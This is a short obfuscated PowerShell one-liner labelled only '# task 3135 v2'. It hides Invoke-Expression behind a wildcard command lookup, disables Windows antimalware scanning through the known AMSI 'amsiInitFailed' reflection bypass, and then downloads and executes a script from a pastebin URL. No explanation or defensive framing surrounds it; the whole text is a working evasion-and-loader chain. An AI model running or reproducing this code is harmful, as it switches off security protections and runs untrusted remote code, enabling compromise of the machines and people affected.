& (gcm I*e-E*) ('# task 3135 v2
[Ref].Assembly.GetType(''System.Management.Automation.AmsiUtils'').GetField(''amsiInitFailed'',''NonPublic,Static'').SetValue($null,$true)
IEX (New-Object Net.WebClient).DownloadString(''https://pastebin.com/raw/support'')
')